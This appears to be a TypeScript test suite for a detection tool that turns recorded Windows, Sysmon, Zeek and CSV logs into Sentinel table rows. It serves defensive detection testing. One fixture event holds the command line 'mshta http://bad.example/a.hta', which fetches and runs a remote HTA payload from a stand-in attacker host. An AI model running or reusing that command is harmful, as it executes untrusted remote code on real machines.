import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { startTrial, type Trial } from './run-sentinel';
import { ruleYaml } from './trial-content';
import { packZip } from './pack-zip';

const created = {
  EventID: 4688,
  SourceName: 'Microsoft-Windows-Security-Auditing',
  Channel: 'Security',
  Hostname: 'ws-1',
  Level: '0',
  Task: '13312',
  '@timestamp': '2020-10-22T03:52:05.477Z',
  Message: 'A new process has been created.\r\n\r\nCreator Subject:',
  SubjectDomainName: 'CONTOSO',
  SubjectUserName: 'amy',
  NewProcessName: 'C:\\Windows\\System32\\mshta.exe',
  CommandLine: 'mshta http://bad.example/a.hta',
  TargetUserName: '-',
  TargetDomainName: '-',
};

const connected = {
  EventID: 3,
  SourceName: 'Microsoft-Windows-Sysmon',
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Hostname: 'ws-1',
  '@timestamp': '2020-10-22T03:52:09.000Z',
  Message: 'Network connection detected:\r\nRuleName: \r\nUtcTime: 2020-10-22 03:52:08.000\r\nImage: C:\\a & b.exe',
  Image: 'C:\\a & b.exe',
  UtcTime: '2020-10-22 03:52:08.000',
};

const xml = `<Events><Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>
<Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4624</EventID><Level>0</Level>
<TimeCreated SystemTime="2026-05-01T08:00:00.1234567Z"/><EventRecordID>77</EventRecordID><Channel>Security</Channel>
<Computer>dc-1</Computer><Security/></System><EventData><Data Name="TargetUserName">eve</Data>
<Data Name="TargetDomainName">CONTOSO</Data><Data Name="LogonType">3</Data><Data Name="IpPort">-</Data>
<Data Name="KeyLength">-</Data></EventData></Event></Events>`;

function lines(rows: readonly object[]): string {
  return rows.map((row) => `${JSON.stringify(row)}\n`).join('');
}

type Row = Readonly<Record<string, unknown>>;

describe('sentinel samples read', () => {
  let trial: Trial;
  beforeEach(() => {
    trial = startTrial({ 'detections/example/rule.yaml': ruleYaml() });
  });
  afterEach(() => trial.remove());

  async function read(files: Readonly<Record<string, string | Uint8Array>>, ...argv: string[]) {
    trial.write(files);
    return trial.run('samples', 'read', ...Object.keys(files), ...argv);
  }

  function rowsOf(dataset: string, table: string): Row[] {
    const text = fs.readFileSync(path.join(trial.root, 'samples', dataset, `${table}.ndjson`), 'utf8');
    return text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Row);
  }

  it('makes rows of SecurityEvent and Event of Windows events in JSON', async () => {
    const { code, output, errors } = await read(
      { 'attack.json': lines([connected, created]) },
      '--technique',
      'T1218.005',
    );
    assert.equal(code, 0, output + errors);
    assert.deepEqual(rowsOf('attack', 'SecurityEvent'), [
      {
        Account: 'CONTOSO\\amy',
        AccountType: 'User',
        Activity: '4688 - A new process has been created.',
        Channel: 'Security',
        CommandLine: 'mshta http://bad.example/a.hta',
        Computer: 'ws-1',
        EventID: 4688,
        EventSourceName: 'Microsoft-Windows-Security-Auditing',
        Level: '0',
        NewProcessName: 'C:\\Windows\\System32\\mshta.exe',
        Process: 'mshta.exe',
        SubjectAccount: 'CONTOSO\\amy',
        SubjectDomainName: 'CONTOSO',
        SubjectUserName: 'amy',
        TargetAccount: '-\\-',
        TargetDomainName: '-',
        TargetUserName: '-',
        Task: 13312,
        TimeGenerated: '2020-10-22T03:52:05.477Z',
      },
    ]);
    assert.match(fs.readFileSync(path.join(trial.root, 'samples/attack/dataset.yaml'), 'utf8'), /T1218\.005/);
  });

  it('writes the fields of a Sysmon event as XML in the order of its message, those that are empty too', async () => {
    await read({ 'attack.json': lines([connected]) });
    assert.equal(
      rowsOf('attack', 'Event')[0]?.['EventData'],
      '<DataItem type="System.XmlData"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">' +
        '<Data Name="RuleName"></Data><Data Name="UtcTime">2020-10-22 03:52:08.000</Data>' +
        '<Data Name="Image">C:\\a &amp; b.exe</Data></EventData></DataItem>',
    );
  });

  it('reads XML as wevtutil writes it, with nothing where Windows writes a hyphen for a number', async () => {
    const { code, errors } = await read({ 'logon.xml': xml });
    assert.equal(code, 0, errors);
    const [row] = rowsOf('logon', 'SecurityEvent');
    assert.deepEqual(
      ['Account', 'LogonTypeName', 'EventRecordId', 'IpPort', 'KeyLength', 'TimeGenerated'].map((name) => row?.[name]),
      ['CONTOSO\\eve', '3 - Network', '77', '-', undefined, '2026-05-01T08:00:00.1234567Z'],
    );
  });

  it('makes forwarded events where that table is named', async () => {
    await read({ 'logon.xml': xml }, '--table', 'WindowsEvent');
    assert.equal((rowsOf('logon', 'WindowsEvent')[0]?.['EventData'] as Row)['TargetUserName'], 'eve');
  });

  it('says once with a count which fields no table holds', async () => {
    const shipped = [1, 2].map((port) => ({ ...created, tags: 'a', port }));
    const { output } = await read({ 'attack.json': lines(shipped) });
    assert.match(output, /SecurityEvent has no column for 2 fields: tags \(2\), port \(2\)/);
  });

  it('unpacks archives, and leaves out what macOS adds to them', async () => {
    const zip = packZip([
      { name: 'attack.json', content: lines([created]) },
      { name: '__MACOSX/._attack.json', content: '\u0000' },
    ]);
    const { code, errors } = await read({ 'attack.zip': zip });
    assert.equal(code, 0, errors);
    assert.equal(rowsOf('attack', 'SecurityEvent').length, 1);
  });

  it('reads rows that were exported, by the name of their file or of their table', async () => {
    const csv = '"TimeGenerated [UTC]",UserPrincipalName,ResultType\n"6/1/2026, 7:58:12.000 AM",amy@contoso.com,0\n';
    const streamed = {
      time: '2026-06-01T08:00:00Z',
      category: 'AdvancedHunting-DeviceProcessEvents',
      properties: { Timestamp: '2026-06-01T07:59:00Z', DeviceName: 'ws-1', FileName: 'a.exe' },
    };
    const { code, errors } = await read({ 'SigninLogs.csv': csv, 'stream.json': lines([{ records: [streamed] }]) });
    assert.equal(code, 0, errors);
    assert.deepEqual(rowsOf('signin-logs', 'SigninLogs'), [
      { ResultType: '0', TimeGenerated: '2026-06-01T07:58:12Z', UserPrincipalName: 'amy@contoso.com' },
    ]);
    assert.equal(rowsOf('stream', 'DeviceProcessEvents')[0]?.['TimeGenerated'], '2026-06-01T07:59:00Z');
  });

  it('reads logs of Zeek in both of its forms', async () => {
    const dns = {
      _path: 'dns',
      ts: 1780300800.5,
      uid: 'C1',
      'id.orig_h': '10.1.0.11',
      query: 'bad.example',
      answers: ['a', 'b'],
    };
    const text = `#separator \\x09\n#set_separator\t,\n#unset_field\t-\n#path\tdns\n#fields\tts\tuid\tid.orig_h\tquery\n#types\ttime\tstring\taddr\tstring\n1780300800.500000\tC1\t10.1.0.11\t-\n`;
    const { code, errors } = await read({ 'zeek.json': lines([dns]), 'zeek2.log': text });
    assert.equal(code, 0, errors);
    const [row] = rowsOf('zeek', 'Corelight_v2_dns_CL');
    assert.deepEqual([row?.['id_orig_h_s'], row?.['answers_s']], ['10.1.0.11', '["a","b"]']);
    assert.equal(rowsOf('zeek2', 'Corelight_v2_dns_CL')[0]?.['TimeGenerated'], '2026-06-01T08:00:00.5Z');
  });

  it('takes a range, and moves all tables by as much', async () => {
    const { code, errors } = await read(
      { 'attack.json': lines([created, connected, { ...created, '@timestamp': '2020-10-22T05:00:00Z' }]) },
      '--to',
      '2020-10-22T04:00:00Z',
      '--ends-at',
      '2026-06-01T00:00:09Z',
    );
    assert.equal(code, 0, errors);
    assert.deepEqual(
      [rowsOf('attack', 'SecurityEvent'), rowsOf('attack', 'Event')].map((rows) =>
        rows.map((row) => row['TimeGenerated']),
      ),
      [['2026-06-01T00:00:05.477Z'], ['2026-06-01T00:00:09Z']],
    );
  });

  const bad: readonly (readonly [what: string, text: string | Uint8Array, said: RegExp, argv?: readonly string[]])[] = [
    [
      'a recording that is cut off',
      lines([created]) + '{"EventID":46',
      /attack\.json:2 error this line is not a whole object of JSON: the file is cut off/,
    ],
    ['gzip that is cut off', zlib.gzipSync(lines([created])).subarray(0, 100), /is cut off, or damaged/],
    [
      'two products in one file',
      lines([created, { eventVersion: '1', eventSource: 'a', eventName: 'b', eventTime: '2020-10-22T03:52:05Z' }]),
      /holds 1 Windows events as JSON and 1 records of AWS CloudTrail/,
    ],
    [
      'times without a zone',
      lines([{ ...created, '@timestamp': '2020-10-22 03:52:05' }]),
      /@timestamp: "2020-10-22 03:52:05" does not say its time zone.*\n.*\n.*--zone \+02:00/,
    ],
    [
      'a value of another type',
      lines([{ Type: 'SigninLogs', TimeGenerated: '2026-06-01T00:00:00Z', IsRisky: 'perhaps' }]),
      /SigninLogs\.IsRisky: "perhaps" is not a bool/,
    ],
    [
      'a range that selects nothing',
      lines([created]),
      /The range selects nothing: the events are from 2020-10-22T03:52:05/,
      ['--from', '2021-01-01'],
    ],
    ['an empty file', '', /the recording is empty/],
    [
      'plain lines of a log',
      'type=SYSCALL msg=audit(1.2:3): comm="arp"\n',
      /neither JSON, XML, a log of Zeek's nor CSV/,
    ],
    ['XML that does not end', xml.slice(0, 300), /this event does not end: the file is cut off/],
  ];
  for (const [what, text, said, argv = []] of bad) {
    it(`refuses ${what}, and writes nothing`, async () => {
      const { code, errors } = await read({ 'attack.json': text }, ...argv);
      assert.equal(code, 1, errors);
      assert.match(errors, said);
      assert.equal(fs.existsSync(path.join(trial.root, 'samples')), false);
    });
  }

  it('knows by the event which provider a recording of the Security log left out', async () => {
    const bare = { Channel: 'Security', Hostname: 'ws-1', '@timestamp': '2020-10-22T03:52:05Z' };
    await read({ 'attack.json': lines([1102, 4624].map((EventID) => ({ ...bare, EventID }))) });
    assert.deepEqual(
      rowsOf('attack', 'SecurityEvent').map((row) => row['EventSourceName']),
      ['Microsoft-Windows-Eventlog', 'Microsoft-Windows-Security-Auditing'],
    );
  });

  it('takes the zone that a person says', async () => {
    await read({ 'attack.json': lines([{ ...created, '@timestamp': '2020-10-22 03:52:05' }]) }, '--zone', '+02:00');
    assert.equal(rowsOf('attack', 'SecurityEvent')[0]?.['TimeGenerated'], '2020-10-22T01:52:05Z');
  });
});
